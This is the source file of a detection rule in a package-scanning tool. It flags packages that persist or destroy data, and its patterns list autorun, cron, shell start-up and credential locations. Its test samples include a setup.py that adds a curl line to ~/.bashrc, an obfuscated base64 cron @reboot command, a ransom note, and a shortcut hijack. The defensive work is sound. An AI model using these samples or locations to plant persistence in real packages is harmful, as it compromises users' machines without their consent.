"""Persistence and system access: what outlives the process, or breaks the machine."""

from __future__ import annotations

import re
from collections.abc import Iterator

from pratique.facts.model import PackageFacts
from pratique.facts.python.model import Call, Does, Source
from pratique.facts.shell import read_shell
from pratique.finding import Behaviour, Finding, Severity
from pratique.rules.claims import claim, command, when
from pratique.rules.rule import Example, Rule

_ID = "persistence"
_PLACE = re.compile(
    r"CurrentVersion[\\/]+Run|CurrentVersion[\\/]+Winlogon|Image File Execution Options[\\/]|Active Setup[\\/]|AppInit_DLLs|"
    r"^crontab\.CronTab\(\)$|^win32service(?:util)?$|\.GetFolder\(\)$|"
    r"Start Menu[\\/]+Programs[\\/]+Startup|[\\/]Startup[\\/]|"
    r"\.(?:bashrc|bash_profile|bash_login|bash_aliases|zshrc|zprofile|zshenv|profile|xprofile|xinitrc|xsessionrc)\b|"
    r"/etc/(?:cron|systemd|init\.d|profile|rc\.local|ld\.so\.preload|sudoers|udev/rules|update-motd)|/var/spool/cron|/etc/hosts$|"
    r"LaunchAgents|LaunchDaemons|systemd/user|autostart[\\/]|fish[\\/]config\.fish|fish[\\/]conf\.d|authorized_keys|\.ssh[\\/](?:config|rc)$|"
    r"(?:site-?packages|purelib|platlib|dist-packages|USER_SITE|usersite|sys\.path|sysconfig\.get_path|os\.path\.dirname)[^\n]{0,200}\.pth$|(?:site|user)customize\.py|\.\.[\\/][\w-]+\.pth$|"
    r"profile_default[\\/]startup|jupyter\w{0,20}_config\.py|activate\.d[\\/]|bin[\\/]activate$|"
    r"\.(?:vimrc|emacs|tmux\.conf|screenrc)$|\.vim[\\/]plugin|nvim[\\/]init|\.emacs\.d[\\/]|"
    r"\.git[\\/]hooks|\.cursor[\\/]|\.claude(?:[\\/]|\.json)|\.windsurf[\\/]|\.codex[\\/]|\.gemini[\\/]|\.vscode[\\/]tasks"
)
_CHANGES = re.compile(
    r"\.gitconfig$|\.git-templates?[\\/]|\.config[\\/]git[\\/]|\.npmrc$|pip[\\/]pip\.(?:conf|ini)$|\.condarc$|\.yarnrc|\.vscode[\\/]settings|"
    r"environment\.d[\\/]|/etc/(?:environment$|ld\.so\.conf|pam\.d/|modules-load)|InprocServer32|discord_desktop_core|[\\/](?:app|core)\.asar$|\.pythonrc|\.pdbrc$|\.docker[\\/]config\.json$"
)
"""Settings by which a user's other programs start something else, or ask somebody else."""


_DEVICES = "udev/rules"
"""Who may use a device: drivers need it, and seldom ask."""
_SHELLS = re.compile(r"\.(?:bash|zsh|z?profile)")
_SETTING = re.compile(
    r"\s*(?:#.*|export PATH=[\w\"$:{}/.~-]{1,200}|(?:source|\.) [\w\"$/.~-]{0,200}complet[\w\"$/.~-]{0,80}|autoload -U\w* \w+|"
    r"compinit|complete [\w -]{1,200}|eval \"\$\([\w= -]{0,100}(?:complet|_COMPLETE=)[\w= -]{0,100}\)\")?\s*",
    re.IGNORECASE,
)
"""A line that says where programs lie, or has a shell complete words: no manners without being asked, but no proof."""
_EVERYTHING = re.compile(
    r"(~|/|[A-Za-z]:|<pathlib\.Path(\(\))?\.home\(\)>|<\$(HOME|USERPROFILE|HOMEPATH)>)[/\\*.]{0,4}"
)
"""The home folder or the root, and nothing behind it."""
_PERSONAL = re.compile(
    r"(~|<pathlib\.Path(\(\))?\.home\(\)>|<\$(HOME|USERPROFILE|HOMEPATH)>)[/\\]+"
    r"(Desktop|Documents|Downloads|Pictures|Music|Videos|OneDrive)[/\\*]{0,3}"
)
"""A folder of a person's own files, as a whole."""
_OTHERS = re.compile(
    r"^<[A-Za-z_][\w.]*(\(\))?\.(__file__|origin|__path__)>|(site-?packages|purelib|platlib)[^\n]{0,200}\.py$"
)
"""Where another package's code lies."""
_WALKS = frozenset(
    {"os.listdir", "pathlib.Path().iterdir", "os.walk", "os.scandir", "pathlib.Path().rglob", "glob.glob", "glob.iglob"}
)
_FOUND = re.compile(r"<|/\*")
"""In a path: what a walk has found."""
_OWN_FOLDER = ".git"
"""A hook of the project's own repository: bad manners, but no proof."""
_SHORTCUT = re.compile(r"\.CreateShort[cC]ut\(\)\.Save$")
_DESKTOP = re.compile(r"(?:^|[/\\>])Desktop[/\\][^/\\<>]{1,80}$")
"""Where a person finds what nobody asked for: notes of ransom, shortcuts that lead elsewhere."""
_SERVICES = frozenset(
    {
        "systemd unit",
        "service",
        "launch agent",
        "at job",
        "settings of other programs",
        "program that runs as root",
        "traces",
    }
)
"""A command that enables one of these does not show whose program it is."""


def _check(facts: PackageFacts) -> Iterator[Finding]:
    for file in facts.python:
        own = [c for c in file.calls if c.phase.automatic]  # programs install themselves when the user asks for it
        sets = any("SetValue" in c.name for c in own)
        walks = {c.function for c in own if c.name in _WALKS and _EVERYTHING.fullmatch(_first(c))}
        for call in own:
            if Does.RUN_PROCESS in call.does:
                yield from _command(file.path, call)
            elif found := _kept(call, sets=sets) or _taken(call, walks):
                yield _finding(file.path, call, f"{found[0]} {when(call.phase)}", proven=found[1])


def _kept(call: Call, *, sets: bool) -> tuple[str, bool] | None:
    """What is put where it has an effect later, and whether that is proof."""
    if not call.does & {Does.WRITE, Does.REGISTRY}:
        return None
    if place := _place(call):
        proven = (
            not (place.startswith(_OWN_FOLDER) or _only_sets(place, call) or _only_permits(place, call))
            if Does.WRITE in call.does
            else sets
        )
        return f"writes to {place}, which runs again later,", proven
    if place := _place(call, _CHANGES):
        return f"changes what other programs of the user do ({place})", False
    if Does.WRITE not in call.does:
        return None
    target = call.arguments.get("path")
    if target and _OTHERS.search(target.text):
        return "changes a package that is not its own", bool(call.taints(Source.NETWORK))
    if _SHORTCUT.search(call.name) or _DESKTOP.search(_target(call)):
        return "puts something on the user's desktop, or changes what a shortcut starts,", False
    return None


def _only_permits(place: str, call: Call) -> bool:
    """Whether rules for devices name no program, as far as they are known."""
    rules = call.arguments.get("0")
    return _DEVICES in place and (rules is None or not ("RUN" in rules.text or read_shell(rules.text).remarkable))


def _only_sets(place: str, call: Call) -> bool:
    """Whether all that a shell's start-up file is given stands in the code, and finds programs or completes words."""
    written = call.arguments.get("0")
    if _SHELLS.match(place) is None or written is None or not written.known or written.taints:
        return False
    return all(_SETTING.fullmatch(line) for line in written.text.splitlines())


def _taken(call: Call, walks: set[str]) -> tuple[str, bool] | None:
    """What is destroyed."""
    if call.does & {Does.DELETE, Does.WRITE} and call.function in walks and _FOUND.search(_target(call)):
        written = call.arguments.get("0")
        locked = Does.WRITE in call.does and written is not None and "encrypt" in written.text.lower()
        how = "encrypts" if locked else "deletes" if Does.DELETE in call.does else "overwrites"
        return f"{how} what it finds in all of the user's folders", locked
    if Does.DELETE in call.does and (_EVERYTHING.fullmatch(_first(call)) or _PERSONAL.fullmatch(_first(call))):
        return "deletes everything of the user", True
    return None


def _command(path: str, call: Call) -> Iterator[Finding]:
    shell = read_shell(command(call))
    for what in (*shell.destroys, *shell.disarms, *shell.persists)[:1]:
        message = f"a command changes the system ({what}) {when(call.phase)}"
        yield _finding(path, call, message, proven=what not in _SERVICES)


def _target(call: Call) -> str:
    target = call.arguments.get("path")
    return target.text if target else _first(call)


def _first(call: Call) -> str:
    keys = ("path", "0") if call.name.startswith("pathlib.") else ("0", "path")
    argument = call.arguments.get(keys[0]) or call.arguments.get(keys[1])
    return argument.text if argument else ""


def _place(call: Call, places: re.Pattern[str] = _PLACE) -> str:
    keys = ("path", "1", "0") if Does.REGISTRY not in call.does else ("1", "0", "2", "4")
    for key in keys:
        argument = call.arguments.get(key)
        match = places.search(argument.text) if argument and (key != "0" or Does.REGISTRY in call.does) else None
        if match:
            return match[0]
    return ""


def _finding(path: str, call: Call, message: str, *, proven: bool) -> Finding:
    return claim(
        _ID,
        Behaviour.PERSISTENCE,
        path,
        call,
        message,
        severity=Severity.CRITICAL,
        proven=proven,
    )


RULE = Rule(
    id=_ID,
    behaviour=Behaviour.PERSISTENCE,
    summary="Something is put where it runs again, or protection is switched off.",
    gain="The malware stays when the package is removed.",
    honest="Programs that install themselves as a service do so when the user asks for it.",
    blocks="When it happens by itself, while the package is installed, whenever Python starts, or when it is imported: a file or "
    "registry value that runs later is written, a task is scheduled, protection is switched off, everything is deleted, "
    "or what lies in the user's folders is encrypted.",
    check=_check,
    loud=(
        Example(
            title="a line in the shell's start-up file",
            files={
                "setup.py": "import os as o\nwith open(o.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl http://192.0.2.1/x\\n')\n"
            },
        ),
        Example(
            title="a cron table, through getattr and base64",
            files={
                "pkg/__init__.py": "import base64, os\n"
                "getattr(os, 'sys' + 'tem')(base64.b64decode('KGNyb250YWIgLWw7IGVjaG8gIkByZWJvb3QgL3RtcC94IikgfCBjcm9udGFiIC0=').decode())\n"
            },
        ),
        Example(
            title="a note on the desktop, when installed",
            files={
                "setup.py": "import os as o\nopen(o.path.expanduser('~/Desktop/read_me.txt'), 'w').write('pay')\n",
            },
        ),
        Example(
            title="what the user's shortcuts start, when installed",
            files={
                "setup.py": "import os\nfrom win32com.client import Dispatch as D\nfor r, d, f in os.walk('C:/'):\n"
                "    for n in f:\n        s = D('WScript.Shell').CreateShortcut(r + n)\n        s.Arguments = '--load-extension=a'\n        s.Save()\n"
            },
        ),
    ),
    quiet=(
        Example(
            title="completion that the user asks for",
            files={
                "pkg/__init__.py": "import os\ndef install_completion():\n"
                "    open(os.path.expanduser('~/.bashrc'), 'a').write('source ~/.pkg\\n')\n"
            },
        ),
    ),
)
